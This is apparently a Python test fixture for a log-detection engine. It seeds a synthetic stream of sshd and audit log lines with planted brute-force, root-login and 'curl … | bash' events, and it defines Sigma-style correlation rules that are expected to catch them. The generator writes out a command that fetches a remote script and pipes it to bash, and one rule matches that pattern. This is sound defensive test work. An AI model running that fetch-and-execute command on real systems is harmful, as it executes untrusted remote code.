"""A day of a web server in one stream: much that is ordinary, and forty attacks that are known in advance.

Every attack is about an entity of its own. Near misses lie beside them: addresses one guess short of the threshold, so
that a line that is read twice makes a false incident, as one that is not read costs a true one.
"""

import random  # noqa: TID251 - a seeded stream of lines
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime

from tests.doubles.audit_lines import execve

GUESSES = 6
RULES = """\
title: SSH login failed
id: 00000000-0000-4000-8000-000000000001
name: failed
status: test
logsource: {product: linux, service: sshd}
detection: {selection: {action: login_failed}, condition: selection}
level: low
---
title: SSH login accepted
id: 00000000-0000-4000-8000-000000000002
name: accepted
status: test
logsource: {product: linux, service: sshd}
detection: {selection: {action: login}, condition: selection}
level: low
---
title: Guessing
id: 00000000-0000-4000-8000-000000000003
status: test
correlation: {type: event_count, rules: [failed], group-by: [src_ip], timespan: 1h, condition: {gte: 6}}
level: medium
tellwhy: {entity: [src_ip]}
---
title: Guessed
id: 00000000-0000-4000-8000-000000000004
status: test
correlation: {type: temporal_ordered, rules: [failed, failed, failed, accepted], group-by: [src_ip], timespan: 1h}
level: high
tellwhy: {entity: [src_ip]}
---
title: Root login
id: 00000000-0000-4000-8000-000000000005
status: test
logsource: {product: linux, service: sshd}
detection: {selection: {action: login, user: root}, condition: selection}
level: high
tellwhy: {entity: [src_ip]}
---
title: Piped
id: 00000000-0000-4000-8000-000000000006
status: test
logsource: {product: linux, category: process_creation}
detection: {selection: {CommandLine|contains|all: ['curl ', '| bash']}, condition: selection}
level: critical
tellwhy: {entity: [CommandLine]}
"""
"""Two of these rules remember lines over the whole stream, two look at single events."""


@dataclass(frozen=True)
class Written:
    """A piece that is appended to one log in one write."""

    source: str
    data: bytes

    @property
    def lines(self) -> int:
        return self.data.count(b"\n")


class AttackStream:
    """`pieces` in the order of their writing; `expected` counts of (title of the rule, a word of the entity).

    `lines` is about how many lines; time runs from `start` to `start + seconds`.
    """

    def __init__(self, seed: int, *, start: float, lines: int = 20_000, seconds: float = 600.0) -> None:
        self._random = random.Random(seed)  # noqa: S311 - a test that can be repeated
        self._start = start
        self._serial = 1000
        self.expected: dict[tuple[str, str], int] = {}
        moments = sorted(self._moments())
        self.pieces: list[Written] = []
        written = 0
        while written < lines or moments:
            at = seconds * written / lines
            while moments and (moments[0][0] * lines <= written or written >= lines):
                self.pieces.append(self._attack(moments.pop(0), at))
                written += self.pieces[-1].lines
            self.pieces.append(self._ordinary(at))
            written += self.pieces[-1].lines

    @property
    def lines(self) -> int:
        """How many lines."""
        return sum(piece.lines for piece in self.pieces)

    def whole(self, source: str) -> bytes:
        """Everything that is ever written to one log."""
        return b"".join(piece.data for piece in self.pieces if piece.source == source)

    # the plan: (when, as part of the stream; kind; who)

    def _moments(self) -> Iterator[tuple[float, str, str]]:
        for number in range(12):
            yield from self._spread(GUESSES, "fail", f"198.51.100.{number + 1}")
            self.expected["Guessing", f"198.51.100.{number + 1}"] = 1
        for number in range(30):
            yield from self._spread(GUESSES - 1, "fail", f"192.0.2.{number + 1}")  # one short
        for number in range(8):
            address = f"203.0.113.{number + 1}"
            *early, last = self._spread(4, "fail", address)
            yield from early
            yield last[0], "login", address
            self.expected["Guessed", address] = 1
        for number in range(8):
            times = 1 + number % 3
            yield from self._spread(times, "root", f"203.0.113.{number + 101}")
            self.expected["Root login", f"203.0.113.{number + 101}"] = times
        for number in range(12):
            times = 1 + number % 3
            yield from self._spread(times, "piped", f"198.51.100.{number + 101}")
            self.expected["Piped", f"198.51.100.{number + 101}"] = times

    def _spread(self, times: int, kind: str, who: str) -> list[tuple[float, str, str]]:
        """So many moments within a tenth of the stream."""
        begin = self._random.uniform(0.01, 0.88)
        return [(at, kind, who) for at in sorted(self._random.uniform(begin, begin + 0.1) for _ in range(times))]

    # the lines

    def _attack(self, moment: tuple[float, str, str], at: float) -> Written:
        _, kind, who = moment
        if kind == "piped":
            return self._execve(at, "sh", "-c", f"curl -fsSL http://{who}/i.sh | bash")
        port = self._random.randrange(32768, 61000)
        user = "root" if kind == "root" else "deploy"
        said = "Failed" if kind == "fail" else "Accepted"
        return self._syslog(at, "sshd", f"{said} password for {user} from {who} port {port} ssh2")

    def _ordinary(self, at: float) -> Written:
        chance = self._random.random()
        if chance < 0.25:
            return self._execve(at, *self._random.choice((("ls", "-l"), ("cat", "/etc/motd"), ("grep", "-r", "a b"))))
        port, pid = self._random.randrange(32768, 61000), self._random.randrange(1000, 30000)
        program, text = self._random.choice(
            (
                ("sshd", f"Accepted publickey for alice from 192.0.2.200 port {port} ssh2: ED25519 SHA256:x"),
                ("sshd", f"Connection closed by 192.0.2.201 port {port} [preauth]"),
                ("sshd", f"Postponed publickey for bob from 192.0.2.202 port {port} ssh2 [preauth]"),
                ("CRON", f"(root) CMD (/usr/local/bin/tidy --run {pid})"),
                ("systemd", f"Started session-{pid}.scope - Session {pid} of User alice."),
                ("kernel", f"[{at:.6f}] eth0: Link is up, “full duplex”, {pid} Mbps"),
            )
        )
        return self._syslog(at, program, text)

    def _syslog(self, at: float, program: str, text: str) -> Written:
        stamp = datetime.fromtimestamp(self._start + at, UTC).isoformat(timespec="microseconds")
        line = f"{stamp} web-1 {program}[{self._random.randrange(300, 30000)}]: {text}\n"
        return Written("auth", line.encode())

    def _execve(self, at: float, *arguments: str) -> Written:
        self._serial += 1
        pid = self._random.randrange(2000, 30000)
        records = execve(self._serial, *arguments, at=f"{self._start + at:.3f}", pid=pid, ppid=1)
        return Written("audit", "".join(f"{record}\n" for record in records).encode())
